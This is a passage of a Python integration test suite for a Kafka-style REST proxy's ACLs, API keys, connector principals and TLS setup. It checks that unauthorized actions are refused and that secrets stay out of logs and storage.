        base = v2_consumer(server, U, "billing", "u2")
        expect(v2_post(base + "/subscription", U, {"topics": ["orders"]}), 204, what="subscribe")

        def poll():
            response = v2_records(base, U)
            expect(response, 200, what="read records")
            return response.json()
        records = []
        deadline = time.time() + 20
        while len(records) < 3 and time.time() < deadline:
            records += poll()
        assert [r["value"] for r in records] == [{"n": 1}, {"n": 2}, {"n": 3}], records
        expect(v2_post(base + "/offsets", U, {"offsets": [{"topic": "orders", "partition": 0, "offset": 3}]}), 200)
        groups = call("GET", server.v3 + "/consumer-groups", U).json()["data"]
        assert [g["consumer_group_id"] for g in groups] == ["billing"], groups
        # v3 partition read: READ on the topic.
        response = read_v3(server, U, "orders")
        expect(response, 200, what="v3 read with READ")
        assert len(json.dumps(response.json())) > 0
        expect(read_v3(server, U, "payments"), 403, 40301, "v3 read of another topic")

        # Another key cannot see, use or delete this key's instance; its own instance in the group cannot read.
        for method in ("GET",):
            expect(call(method, base + "/subscription", O), 404, 40403, "another key's instance")
        expect(v2_records(base, O), 404, 40403, "another key's instance: records")
        expect(call("DELETE", base, O), 404, 40403, "another key's instance: delete")
        expect(v2_post(base + "/offsets", O, {"offsets": [{"topic": "orders", "partition": 0, "offset": 0}]}), 404,
               40403, "another key's instance: commit")
        expect(call("GET", base + "/subscription", U), 200, what="the instance survived")
        # The admin cannot use it either: an instance belongs to the key that made it.
        expect(call("GET", base + "/subscription", A), 404, 40403, "the admin and another key's instance")
        other_base = v2_consumer(server, O, "billing", "o1")
        expect(v2_post(other_base + "/subscription", O, {"topics": ["orders"]}), 204)
        expect(v2_records(other_base, O), 403, 40301, "another key without READ on the group")
        expect(call("DELETE", other_base, O), 204)

        # Prefixed (CLI): orders-eu by the prefix orders-.
        runnel("acl", "create", "--principal", P, "--operation", "read", "--topic", "orders-", "--prefixed",
               env=cli_env)
        expect(read_v3(server, U, "orders-eu"), 200, what="READ by prefix")
        assert v3_topics(server, U) == ["orders", "orders-eu"], v3_topics(server, U)
        expect_v3_denied(produce_v3(server, U, "orders-eu", 1), "READ by prefix is not WRITE")

        # LITERAL * matches every topic; DENY on one wins over it.
        add_acl(server, A, acl(P, "DESCRIBE", name="*"))
        assert v3_topics(server, U) == ["doomed", "orders", "orders-eu", "payments", "secret-topic", "tuned"], \
            v3_topics(server, U)
        add_acl(server, A, acl(P, "DESCRIBE", name="secret-topic", permission="DENY"))
        assert "secret-topic" not in v3_topics(server, U) and "secret-topic" not in v2_topics(server, U)
        expect(call("GET", server.v3 + "/topics/secret-topic", U), 403, 40301, "DENY DESCRIBE")
        assert "payments" in v2_topics(server, U)

        # DENY for User:* wins over this key's ALLOW; deleting it (CLI) restores the ALLOW.
        runnel("acl", "create", "--principal", "User:*", "--operation", "write", "--topic", "orders", "--deny",
               env=cli_env)
        expect(produce_v2(server, U, "orders", [4]), 403, 40301, "DENY User:* over ALLOW")
        expect_v3_denied(produce_v3(server, U, "orders", 4), "DENY User:* over ALLOW (v3)")
        deleted = json.loads(runnel("acl", "delete", "--principal", "User:*", "--topic", "orders", "--operation",
                                    "write", "--deny", "-o", "json", env=cli_env).out)
        assert len(deleted) == 1, deleted
        expect(produce_v2(server, U, "orders", [4]), 200)
        # ALLOW for User:* applies to every key.
        expect(call("GET", server.v3 + "/topics/tuned", O), 403, 40301)
        add_acl(server, A, acl("User:*", "DESCRIBE", name="tuned"))
        expect(call("GET", server.v3 + "/topics/tuned", O), 200, what="ALLOW User:*")

        # ALTER_CONFIGS implies DESCRIBE_CONFIGS (and nothing more).
        tuned = f"{server.v3}/topics/tuned/configs"
        expect(call("GET", tuned, O), 403, 40301, "configs without DESCRIBE_CONFIGS")
        add_acl(server, A, acl(other["principal"], "ALTER_CONFIGS", name="tuned"))
        expect(call("GET", tuned, O), 200, what="ALTER_CONFIGS implies DESCRIBE_CONFIGS")
        expect(call("POST", tuned + ":alter", O, json={"data": [{"name": "retention.ms", "value": "60000"}]}), 204,
               what="ALTER_CONFIGS")
        expect_v3_denied(produce_v3(server, O, "tuned", 1), "ALTER_CONFIGS is not WRITE")

        # Hosts: an ACL for another address does not apply; one for 127.0.0.1 does.
        add_acl(server, A, acl(P, "DELETE", name="doomed", host="10.9.9.9"))
        expect(call("DELETE", server.v3 + "/topics/doomed", U), 403, 40301, "ACL for another host")
        add_acl(server, A, acl(P, "DELETE", name="doomed", host="127.0.0.1"))
        expect(call("DELETE", server.v3 + "/topics/doomed", U), 204, what="ACL for this host")

        # CREATE on a topic name (not the cluster): that topic only.
        add_acl(server, A, acl(P, "CREATE", name="made-by-u"))
        expect(call("POST", server.v3 + "/topics", U, json={"topic_name": "made-by-u", "partitions_count": 1}), 201)
        expect(call("POST", server.v3 + "/topics", U, json={"topic_name": "not-mine", "partitions_count": 1}), 403,
               40301, "CREATE on another name")

        # ACL management needs ALTER/DESCRIBE on the cluster.
        expect(call("GET", server.v3 + "/acls", U), 403, 40301, "list ACLs without DESCRIBE on the cluster")
        expect(call("POST", server.v3 + "/acls", U, json=acl(P, "ALL", name="*")), 403, 40301,
               "grant oneself everything")
        expect(call("DELETE", server.v3 + "/acls", U, params={"resource_type": "ANY", "pattern_type": "ANY",
                                                             "operation": "ANY", "permission": "ANY"}),
               403, 40301, "delete ACLs without ALTER on the cluster")
        wait_for_audit(server, "Access denied", f"principal={P}", "operation=ALTER", "resource_type=CLUSTER")
        runnel("acl", "create", "--principal", P, "--operation", "describe", "--cluster", env=cli_env)
        mine = list_acls(server, U, principal=P)
        assert mine and all(b["principal"] == P for b in mine), mine
        expect(call("POST", server.v3 + "/acls", U, json=acl(P, "ALL", name="*")), 403, 40301,
               "DESCRIBE on the cluster is not ALTER")

        # The list's shape and filters.
        response = call("GET", server.v3 + "/acls", A, params={"principal": P, "resource_type": "TOPIC"})
        body = response.json()
        assert body["kind"] == "KafkaAclList" and body["metadata"]["self"], body
        for binding in body["data"]:
            assert binding["kind"] == "KafkaAcl" and binding["metadata"]["self"], binding
            assert binding["cluster_id"] == server.cluster, binding
            assert set(binding) >= {"resource_type", "resource_name", "pattern_type", "principal", "host",
                                    "operation", "permission"}, binding
        prefixed = list_acls(server, A, resource_type="TOPIC", pattern_type="PREFIXED")
        assert [(b["resource_name"], b["operation"]) for b in prefixed] == [("orders-", "READ")], prefixed
        # MATCH: what applies to orders-eu: the literal name, *, and prefixes of it.
        add_acl(server, A, acl("User:ABSENTABSENT0000", "DESCRIBE", name="orders-eu"))
        matched = list_acls(server, A, resource_type="TOPIC", resource_name="orders-eu", pattern_type="MATCH")
        names = sorted({(b["resource_name"], b["pattern_type"]) for b in matched})
        assert names == [("*", "LITERAL"), ("orders-", "PREFIXED"), ("orders-eu", "LITERAL")], names
        literal = list_acls(server, A, resource_type="TOPIC", resource_name="orders", pattern_type="LITERAL")
        assert {b["operation"] for b in literal} == {"WRITE", "READ"}, literal
        denies = list_acls(server, A, permission="DENY")
        assert [(b["resource_name"], b["operation"]) for b in denies] == [("secret-topic", "DESCRIBE")], denies
        hosts = list_acls(server, A, host="10.9.9.9")
        assert [b["resource_name"] for b in hosts] == ["doomed"], hosts
        groups = list_acls(server, A, resource_type="GROUP")
        assert [(b["resource_name"], b["operation"]) for b in groups] == [("billing", "READ")], groups
        cli_list = json.loads(runnel("acl", "list", "--principal", P, "--topic", "orders", "-o", "json",
                                     env=cli_env).out)
        assert {b["operation"] for b in cli_list} == {"READ", "WRITE"}, cli_list
        assert "orders" in runnel("acl", "list", "--principal", P, env=cli_env).out

        # Batch create.
        response = call("POST", server.v3 + "/acls:batch", A, json={"data": [
            acl(other["principal"], "READ", "GROUP", "batch-group"), acl(other["principal"], "READ", name="batch-")]})
        expect(response, 201, what="batch create")
        assert len(list_acls(server, A, principal=other["principal"], resource_type="GROUP")) == 1

        # Delete by filter (MATCH): the deleted ACLs come back.
        response = call("DELETE", server.v3 + "/acls", A, params={
            "resource_type": "TOPIC", "pattern_type": "PREFIXED", "principal": P, "operation": "ANY",
            "permission": "ANY"})
        expect(response, 200, what="delete ACLs")
        assert [(b["resource_name"], b["pattern_type"]) for b in response.json()["data"]] == [("orders-", "PREFIXED")], \
            response.json()
        assert list_acls(server, A, resource_type="TOPIC", pattern_type="PREFIXED", principal=P) == []
        expect(read_v3(server, U, "orders-eu"), 403, 40301, "the prefixed ACL is gone")
        response = call("DELETE", server.v3 + "/acls", A, params={
            "resource_type": "TOPIC", "pattern_type": "MATCH", "resource_name": "secret-topic", "principal": P,
            "operation": "DESCRIBE", "permission": "ANY"})
        expect(response, 200)
        assert sorted(b["resource_name"] for b in response.json()["data"]) == ["*", "secret-topic"], response.json()
        # Required parameters of DELETE.
        expect(call("DELETE", server.v3 + "/acls", A, params={"resource_type": "TOPIC"}), 400,
               what="DELETE without pattern_type/operation/permission")

        # Invalid ACLs: 400 (40002) and nothing created.
        before = list_acls(server, A)
        # (A value that is not one of an enum's names is a malformed request, 400 like Confluent's; a valid name that
        # an ACL may not have is 40002; a missing field is 400 or 422.)
        malformed = {400, 40002}
        invalid = [
            (acl(P, "DESCRIBE", "CLUSTER", "not-kafka-cluster"), 400, {40002}),
            (acl(P, "FLY", name="orders"), 400, malformed),
            (acl(P, "READ", "QUEUE", "orders"), 400, malformed),
            (acl(P, "READ", name="orders", pattern="MATCH"), 400, {40002}),
            (acl(P, "READ", name="orders", pattern="ANY"), 400, {40002}),
            (acl(P, "READ", "ANY", "orders"), 400, {40002}),
            (acl(P, "ANY", name="orders"), 400, {40002}),
            (acl(P, "READ", name="orders", permission="ANY"), 400, {40002}),
            (acl(P, "READ", name="orders", permission="MAYBE"), 400, malformed),
            (acl(P, "READ", name=""), 400, {40002}),
            (acl("nobody", "READ", name="orders"), 400, {40002}),
            (acl(P, "READ", name="orders", host=""), 400, {40002}),
            ({k: v for k, v in acl(P, "READ", name="orders").items() if k != "host"}, None, None),
            ({k: v for k, v in acl(P, "READ", name="orders").items() if k != "principal"}, None, None),
        ]
        for binding, status, codes in invalid:
            response = call("POST", server.v3 + "/acls", A, json=binding)
            if status is None:
                assert response.status_code in (400, 422), (binding, response.status_code, response.text)
            else:
                assert response.status_code == status and error_code(response) in codes, (
                    f"invalid ACL {binding}: want {status} {codes}, got {response.status_code} {response.text}")
        expect(call("POST", server.v3 + "/acls:batch", A, json={"data": [acl(P, "READ", name="fine"),
                                                                          acl(P, "READ", "CLUSTER", "x")]}),
               400, 40002, "a batch with one invalid ACL")
        assert list_acls(server, A) == before, "an invalid request created ACLs"
        cluster_ok = call("POST", server.v3 + "/acls", A, json=acl(P, "DESCRIBE", "CLUSTER", "kafka-cluster"))
        expect(cluster_ok, 201, what="the cluster ACL named kafka-cluster")
        bad_cli = runnel("acl", "create", "--principal", P, "--operation", "fly", "--topic", "x", env=cli_env,
                         check=False)
        assert bad_cli.returncode != 0, bad_cli.out

        # The audit lines name the principal; no secret is in the log.
        log = server.log_text()
        for key in (admin, user, other):
            assert key["secret"] not in log, "a secret is in the server log"
        denied = audit_lines(server, "Access denied")
        assert any(f"principal={P}" in l and "operation=READ" in l and "resource_name=billing" in l for l in denied)
        assert any(f"principal={other['principal']}" in l for l in denied)

        # Last, checks that are all made before any fails (each names what went wrong).
        later = Later()
        # "host must be * or an address", says the server of an empty host: so is this one (an ACL that can never
        # match is a silent misconfiguration).
        later.expect(call("POST", server.v3 + "/acls", A, json=acl(P, "READ", name="orders", host="not an address")),
                     400, 40002, "an ACL whose host is not an address")
        # ALTER_CONFIGS alone (no DESCRIBE): Kafka's IncrementalAlterConfigs and DescribeConfigs need nothing else.
        add_acl(server, A, acl(other["principal"], "ALTER_CONFIGS", name="orders-eu"))
        later.expect(call("GET", f"{server.v3}/topics/orders-eu/configs", O), 200,
                     what="DESCRIBE_CONFIGS (implied by ALTER_CONFIGS) without DESCRIBE on the topic")
        later.expect(call("POST", f"{server.v3}/topics/orders-eu/configs:alter", O,
                          json={"data": [{"name": "retention.ms", "value": "60000"}]}), 204,
                     what="ALTER_CONFIGS without DESCRIBE on the topic")
        # The instance whose first read was refused reads once the ACL allows it (as a Kafka consumer's next poll
        # does): the refusal is not remembered.
        later.expect(v2_records(refused_before_grant, U, timeout=1000), 200,
                     what="the instance refused before READ on the group was granted, after the grant")
        later.done()


# MARK: - API keys

KEY = re.compile(r"^[A-Z0-9]{16}$")
# A salted SHA-256 of the secret (a secret is 64 random characters: a slow hash adds nothing against guessing).
SECRET_HASH = re.compile(rb"sha256:[0-9a-f]{32}:[0-9a-f]{64}")


def check_created(key, description, super_user):
    assert set(key) >= {"key", "secret", "principal", "description", "super_user", "created_at"}, key
    assert len(key["key"]) == 16 and KEY.match(key["key"]), key
    assert len(key["secret"]) == 64 and key["secret"].isalnum(), key
    assert key["principal"] == "User:" + key["key"], key
    assert key["description"] == description and key["super_user"] is super_user, key
    created = time.mktime(time.strptime(key["created_at"], "%Y-%m-%dT%H:%M:%SZ")) - time.timezone
    assert abs(created - time.time()) < 600, key


def data_files(directory):
    """Every file under a data directory, as (path, bytes)."""
    for folder, _, names in os.walk(directory):
        for name in names:
            path = os.path.join(folder, name)
            with open(path, "rb") as file:
                yield path, file.read()


def test_api_keys():
    """Keys made offline before the server starts and online (HTTP and CLI); listing, describing, deleting; only a
    super user makes or deletes a super user; a deleted key is refused at once; secrets appear only in the answer
    that creates them (not in logs, other answers or the data directory, which holds salted hashes)."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True, description="admin")
        check_created(admin, "admin", True)
        service = offline_key(data, description="service")
        check_created(service, "service", False)
        offline = json.loads(runnel("api-key", "list", "--data-dir", data, "-o", "json").out)
        assert sorted(k["key"] for k in offline) == sorted([admin["key"], service["key"]]), offline
        assert "secret" not in json.dumps(offline) and admin["secret"] not in json.dumps(offline), offline
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        A, S = creds(admin), creds(service)
        secrets = [admin["secret"], service["secret"]]
        seen = []  # every answer but the creating ones: none may carry a secret

        def checked(response):
            seen.append(response.text + json.dumps(dict(response.headers)))
            return response

        keys_url = server.url + "/security/api-keys"
        # Both offline keys work; the service key (no ACLs) may neither list nor create keys.
        expect(checked(call("GET", server.v3 + "/topics", S)), 200)
        expect(checked(call("GET", keys_url, S)), 403, 40301, "list keys without DESCRIBE on the cluster")
        expect(checked(call("POST", keys_url, S, json={"description": "x"})), 403, 40301,
               "create a key without ALTER on the cluster")

        # Online creation over HTTP: 201, the secret, a Location.
        response = call("POST", keys_url, A, json={"description": "made online", "super_user": False})
        expect(response, 201, what="create a key")
        made = response.json()
        check_created(made, "made online", False)
        assert response.headers.get("Location", "").endswith("/security/api-keys/" + made["key"]), response.headers
        secrets.append(made["secret"])
        expect(checked(call("GET", server.v3 + "/topics", creds(made))), 200)
        # ... and with the CLI (credentials in the environment), as JSON.
        cli_made = json.loads(runnel("api-key", "create", "--description", "made by the CLI", "-o", "json",
                                     env=env_for(server, admin)).out)
        check_created(cli_made, "made by the CLI", False)
        secrets.append(cli_made["secret"])
        expect(checked(call("GET", server.v3 + "/topics", creds(cli_made))), 200)
        # ... with flags instead of variables, and a super user.
        flags_made = json.loads(runnel("api-key", "create", "--super-user", "--url", server.url, "--api-key",
                                       admin["key"], "--api-secret", admin["secret"], "-o", "json").out)
        check_created(flags_made, "", True)
        secrets.append(flags_made["secret"])
        # The CLI without credentials: refused, and it says so.
        refused = runnel("api-key", "list", env={"RUNNEL_URL": server.url}, check=False)
        assert refused.returncode != 0 and refused.err.strip(), refused.err

        # List and describe: never a secret.
        listed = checked(call("GET", keys_url, A))
        expect(listed, 200)
        assert listed.json()["kind"] == "ApiKeyList", listed.json()
        by_key = {k["key"]: k for k in listed.json()["data"]}
        assert set(by_key) == {admin["key"], service["key"], made["key"], cli_made["key"], flags_made["key"]}, by_key
        assert by_key[made["key"]]["description"] == "made online" and by_key[admin["key"]]["super_user"] is True
        for entry in by_key.values():
            assert "secret" not in entry and set(entry) >= {"key", "principal", "description", "super_user",
                                                            "created_at"}, entry
        described = checked(call("GET", f"{keys_url}/{made['key']}", A))
        expect(described, 200)
        assert described.json()["key"] == made["key"] and "secret" not in described.json(), described.json()
        expect(checked(call("GET", f"{keys_url}/NOSUCHKEY0000000", A)), 404, 40404, "describe an unknown key")
        expect(checked(call("DELETE", f"{keys_url}/NOSUCHKEY0000000", A)), 404, 40404, "delete an unknown key")
        cli_list = json.loads(runnel("api-key", "list", "-o", "json", env=env_for(server, admin)).out)
        seen.append(json.dumps(cli_list))
        assert {k["key"] for k in cli_list} == set(by_key), cli_list
        seen.append(runnel("api-key", "list", env=env_for(server, admin)).out)

        # A key with ALTER on the cluster (not a super user) makes ordinary keys, not super users, and may not
        # delete a super user.
        add_acl(server, A, acl(service["principal"], "ALTER", "CLUSTER", "kafka-cluster"),
                acl(service["principal"], "DESCRIBE", "CLUSTER", "kafka-cluster"))
        response = call("POST", keys_url, S, json={"description": "by the service"})
        expect(response, 201, what="create a key with ALTER on the cluster")
        by_service = response.json()
        secrets.append(by_service["secret"])
        expect(checked(call("POST", keys_url, S, json={"description": "escalate", "super_user": True})), 403, 40301,
               "a non-super user makes a super user")
        expect(checked(call("DELETE", f"{keys_url}/{admin['key']}", S)), 403, 40301,
               "a non-super user deletes a super user")
        cli_escalate = runnel("api-key", "create", "--super-user", env=env_for(server, service), check=False)
        assert cli_escalate.returncode != 0, cli_escalate.out
        seen.append(cli_escalate.out + cli_escalate.err)
        expect(checked(call("GET", server.v3 + "/topics", A)), 200, what="the admin survived")
        assert len(call("GET", keys_url, A).json()["data"]) == 6
        expect(checked(call("POST", keys_url, A, json={"super_user": "yes"})), 400, 40002, "super_user not a bool")

        # Deleting a key: refused from the next request on (HTTP, then the CLI).
        session = requests.Session()  # a kept-alive connection must not keep a deleted key alive either
        expect(checked(session.get(server.v3 + "/topics", auth=creds(by_service), timeout=TIMEOUT)), 200)
        expect(checked(call("DELETE", f"{keys_url}/{by_service['key']}", S)), 204, what="delete an ordinary key")
        expect_401(checked(session.get(server.v3 + "/topics", auth=creds(by_service), timeout=TIMEOUT)), 40101,
                   "a deleted key")
        expect_401(checked(call("GET", server.connect + "/connectors", creds(by_service))), 401, "a deleted key")
        expect(checked(call("GET", server.v3 + "/topics", creds(cli_made))), 200)
        runnel("api-key", "delete", cli_made["key"], env=env_for(server, admin))
        expect_401(checked(call("GET", server.v3 + "/topics", creds(cli_made))), 40101, "a key deleted by the CLI")
        expect(checked(call("GET", f"{keys_url}/{cli_made['key']}", A)), 404, 40404)
        expect(checked(call("DELETE", f"{keys_url}/{flags_made['key']}", A)), 204, what="a super user deletes one")
        expect_401(checked(call("GET", server.v3 + "/topics", creds(flags_made))), 40101)

        # Deleted offline (--data-dir) while the server runs: refused within 30 s.
        doomed = offline_key(data, description="deleted offline")
        secrets.append(doomed["secret"])
        expect(checked(call("GET", server.v3 + "/topics", creds(doomed))), 200, what="a key made offline, online")
        runnel("api-key", "delete", doomed["key"], "--data-dir", data)
        wait_for(lambda: checked(call("GET", server.v3 + "/topics", creds(doomed))).status_code == 401, 40,
                 "a key deleted offline to be refused")

        # Failed authentications are audited with the key, never the secret tried.
        wrong = "W" * 64
        expect_401(checked(call("GET", server.v3 + "/topics", (made["key"], wrong))), 40101)
        expect_401(checked(call("GET", server.v3 + "/topics", (made["key"], service["secret"]))), 40101,
                   "another key's secret")
        wait_for_audit(server, "Authentication failed", made["key"])

        server.stop()
        log = server.log_text()
        for secret in secrets:
            assert secret not in log, "a secret is in the server log"
            for text in seen:
                assert secret not in text, f"a secret is in an answer: {text[:300]}"
        assert wrong not in log, "the wrong secret tried is in the log"
        # The data directory: no secret anywhere (metadata.db, connect.db, their journals, segments); salted hashes.
        files = dict(data_files(data))
        assert any(os.path.basename(p) == "metadata.db" for p in files), sorted(files)
        assert any(os.path.basename(p) == "connect.db" for p in files), sorted(files)
        for path, content in files.items():
            for secret in secrets:
                assert secret.encode() not in content, f"a secret is stored in {path}"
        metadata = files[os.path.join(data, "metadata.db")]
        hashes = set(SECRET_HASH.findall(metadata))
        assert len(hashes) >= 3, f"secret hashes in metadata.db: {len(hashes)}"
        # Restarted, the surviving keys still work and the deleted ones do not.
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        expect(call("GET", server.v3 + "/topics", creds(made)), 200, what="a key after a restart")
        expect_401(call("GET", server.v3 + "/topics", creds(cli_made)), 40101, "a deleted key after a restart")

        # `runnel api-key list -o json` (online and offline) names the fields as the API and `api-key create -o json`
        # do.
        for entry in cli_list + offline:
            assert set(entry) == {"key", "principal", "description", "super_user", "created_at"}, entry


# MARK: - Connectors


def connector_status(server, auth, name):
    response = call("GET", f"{server.connect}/connectors/{name}/status", auth)
    expect(response, 200, what=f"status of {name}")
    return response.json()


def task_state(server, auth, name, state):
    """The status of a connector once its first task is in `state`."""
    def reached():
        status = connector_status(server, auth, name)
        return status if status.get("tasks") and status["tasks"][0]["state"] == state else None
    try:
        return wait_for(reached, 30, f"{name}'s task {state}")
    except AssertionError:
        raise AssertionError(f"{name}'s task never {state}: {connector_status(server, auth, name)}") from None


def record_count(server, auth, topic):
    response = read_v3(server, auth, topic)
    expect(response, 200, what=f"read {topic}")
    return len(response.json()["data"])


def test_connector_principal():
    """A connector runs as the key that created (or last configured) it: it writes where that key may write, its
    task fails where the key may not, reconfiguring by a key that may makes it work, and a restart keeps each
    connector's principal."""
    with Sandbox() as box:
        data = box.path("data")
        admin = offline_key(data, super_user=True, description="admin")
        ops = offline_key(data, description="connector operator")
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        A, C = creds(admin), creds(ops)
        for topic in ("src-a", "src-b"):
            create_topic(server, A, topic)
        sources = {name: box.path(f"{name}.txt") for name in ("fs-a", "fs-b")}
        for path in sources.values():
            with open(path, "w") as file:
                file.write("".join(f"line {i}\n" for i in range(5)))

        def config(name, topic):
            return {"connector.class": "FileStreamSource", "tasks.max": "1", "file": sources[name], "topic": topic}

        # Managing connectors needs ALTER on the cluster; one that reads files on the server (every built-in one:
        # it could read the server's own secrets) needs ALL on the cluster.
        add_acl(server, A, acl(ops["principal"], "ALTER", "CLUSTER", "kafka-cluster"),
                acl(ops["principal"], "DESCRIBE", "CLUSTER", "kafka-cluster"))
        refused = call("POST", server.connect + "/connectors", C, json={"name": "fs-x", "config": config("fs-a", "src-a")})
        expect(refused, 403, 403, what="a file connector by a key without ALL on the cluster")
        assert "files on the server" in refused.json()["message"], refused.text
        # The operator may now configure file connectors (ALL on the cluster, not a super user) and write src-a only.
        add_acl(server, A, acl(ops["principal"], "ALL", "CLUSTER", "kafka-cluster"),
                acl(ops["principal"], "WRITE", name="src-a"))

        def append(name, line):
            with open(sources[name], "a") as file:
                file.write(line + "\n")

        def create(auth, name, topic):
            response = call("POST", server.connect + "/connectors", auth, json={"name": name,
                                                                                "config": config(name, topic)})
            expect(response, 201, what=f"create connector {name}")

        create(C, "fs-a", "src-a")
        task_state(server, C, "fs-a", "RUNNING")
        wait_for(lambda: record_count(server, A, "src-a") == 5, 30, "fs-a's records in src-a")

        create(C, "fs-b", "src-b")
        failed = task_state(server, C, "fs-b", "FAILED")
        trace = failed["tasks"][0].get("trace", "")
        assert "authoriz" in trace.lower() and "src-b" in trace, failed
        assert ops["secret"] not in json.dumps(failed) and admin["secret"] not in json.dumps(failed)
        assert record_count(server, A, "src-b") == 0
        wait_for_audit(server, "Access denied", f"principal={ops['principal']}", "operation=WRITE",
                       "resource_name=src-b")
        # The same through the proxy port's /connect.
        via_proxy = call("GET", f"{server.url}/connect/connectors/fs-b/status", C)
        expect(via_proxy, 200)
        assert via_proxy.json()["tasks"][0]["state"] == "FAILED", via_proxy.json()

        # A key that may only describe the cluster sees connectors but may not change them.
        reader = offline_key(data, description="reader")
        add_acl(server, A, acl(reader["principal"], "DESCRIBE", "CLUSTER", "kafka-cluster"))
        R = creds(reader)
        expect(call("GET", server.connect + "/connectors", R), 200)
        expect(call("PUT", f"{server.connect}/connectors/fs-b/config", R, json=config("fs-b", "src-b")), 403, 403)
        expect(call("POST", f"{server.connect}/connectors/fs-b/restart", R), 403, 403)
        expect(call("DELETE", f"{server.connect}/connectors/fs-b", R), 403, 403)
        expect(call("POST", server.connect + "/connectors", R, json={"name": "fs-r", "config": config("fs-b", "x")}),
               403, 403)

        # The admin configures fs-b (same config): it now runs as the admin, and writes.
        response = call("PUT", f"{server.connect}/connectors/fs-b/config", A, json=config("fs-b", "src-b"))
        assert response.status_code in (200, 201), response.text
        task_state(server, A, "fs-b", "RUNNING")
        wait_for(lambda: record_count(server, A, "src-b") == 5, 30, "fs-b's records in src-b")

        # The operator points fs-a at src-b: it runs as the operator, who may not write there; its next line fails it.
        response = call("PUT", f"{server.connect}/connectors/fs-a/config", C, json=config("fs-a", "src-b"))
        assert response.status_code in (200, 201), response.text
        # Give the old task time to stop: a line it read before the new config would still go to src-a.
        time.sleep(2)
        append("fs-a", "line a5")
        task_state(server, C, "fs-a", "FAILED")
        # A restart by the admin (not a configuration) does not change whom it runs as.
        response = call("POST", f"{server.connect}/connectors/fs-a/restart", A,
                        params={"includeTasks": "true", "onlyFailed": "false"})
        assert response.status_code in (200, 202, 204), response.text
        time.sleep(2)
        task_state(server, A, "fs-a", "FAILED")
        assert record_count(server, A, "src-b") == 5, "fs-a wrote to src-b"

        # After a restart of the server each connector keeps its principal: fs-a still fails, fs-b still runs.
        server.stop()
        server = box.server(extra=["--auth", "required"], auth=creds(admin))
        task_state(server, A, "fs-b", "RUNNING")
        task_state(server, A, "fs-a", "FAILED")
        append("fs-b", "line b5")
        wait_for(lambda: record_count(server, A, "src-b") == 6, 30, "fs-b's new line after the restart")
        time.sleep(1)
        assert record_count(server, A, "src-b") == 6, "fs-a wrote to src-b after the restart"
        assert ops["secret"] not in server.log_text() and admin["secret"] not in server.log_text()
        for path, content in data_files(data):
            for key in (admin, ops, reader):
                assert key["secret"].encode() not in content, f"a secret is stored in {path}"


# MARK: - TLS


def non_loopback_address():
    """An IPv4 address of this machine other than loopback, or None."""
    candidates = []
    try:
        output = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True, timeout=10).stdout
        candidates += re.findall(r"inet (\d+\.\d+\.\d+\.\d+)/", output)
    except (OSError, subprocess.SubprocessError):
        pass
    try:
        candidates.append(socket.gethostbyname(socket.gethostname()))
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing interface
            candidates.append(probe.getsockname()[0])
    except OSError:
        pass
    for address in candidates:
        if not address.startswith("127.") and address != "0.0.0.0":
            return address
    return None


class Certificates:
    """A CA and a server certificate for this machine's addresses, written as PEM files in the sandbox."""

    def __init__(self, box, name, *identities):
        self.ca = trustme.CA()
        self.ca_path = box.path(f"{name}-ca.pem")
        self.ca.cert_pem.write_to_path(self.ca_path)
        self.identities = ["127.0.0.1", "localhost", *identities]
        self.issued = self.ca.issue_cert(*self.identities)

    def write_server(self, cert_path, key_path):
        self.issued.private_key_pem.write_to_path(key_path)
        with open(cert_path, "wb") as file:
            for blob in self.issued.cert_chain_pems:
                file.write(blob.bytes())


def port_of(url):
    return urllib.parse.urlsplit(url).port


def handshake(port, context, host="127.0.0.1", server_name="127.0.0.1"):
    """Completes a TLS handshake (and one HTTP exchange) with context; returns the protocol version or raises."""
    with socket.create_connection((host, port), timeout=10) as raw:
        with context.wrap_socket(raw, server_hostname=server_name) as tls:
            tls.sendall(b"GET /v3/clusters HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            answer = tls.recv(64)
            if not answer:
                raise ConnectionError("closed without an answer")
            return tls.version(), answer


def plaintext_exchange(host, port, path="/v3/clusters", close=False):
    """A plaintext HTTP request on a raw socket (kept alive unless `close`): the bytes answered until the server
    closes (or 10 s), and whether it closed."""
    with socket.create_connection((host, port), timeout=10) as raw:
        connection = "Connection: close\r\n" if close else ""
        raw.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{connection}\r\n".encode())
        chunks = []
        try:
            while True:
                chunk = raw.recv(65536)
                if not chunk:
                    return b"".join(chunks), True
                chunks.append(chunk)
        except socket.timeout:
            return b"".join(chunks), False


def tls11_client():
    """A client context limited to TLS 1.1, if this Python and OpenSSL can still speak it (checked against a local
    TLS 1.1 server); None otherwise."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        try:
            client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            client.minimum_version = ssl.TLSVersion.TLSv1_1
            client.maximum_version = ssl.TLSVersion.TLSv1_1
            client.set_ciphers("DEFAULT:@SECLEVEL=0")
            client.check_hostname = False
            client.verify_mode = ssl.CERT_NONE
            ca = trustme.CA()
            server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            server.minimum_version = ssl.TLSVersion.TLSv1_1
            server.maximum_version = ssl.TLSVersion.TLSv1_1
            server.set_ciphers("DEFAULT:@SECLEVEL=0")
            ca.issue_cert("127.0.0.1").configure_cert(server)
        except (ValueError, ssl.SSLError, AttributeError):
            return None
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(10)
    outcome = {}

    def serve():
        try:
            connection, _ = listener.accept()
            with server.wrap_socket(connection, server_side=True) as tls:
                outcome["version"] = tls.version()
        except (OSError, ssl.SSLError) as error:
            outcome["error"] = error
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        with socket.create_connection(listener.getsockname(), timeout=10) as raw:
            with client.wrap_socket(raw, server_hostname="127.0.0.1") as tls:
                version = tls.version()
    except (OSError, ssl.SSLError):
        version = None
    thread.join(10)
    listener.close()
    return client if version == "TLSv1.1" else None


def expect_tls_failure(what, attempt):
    try:
        result = attempt()
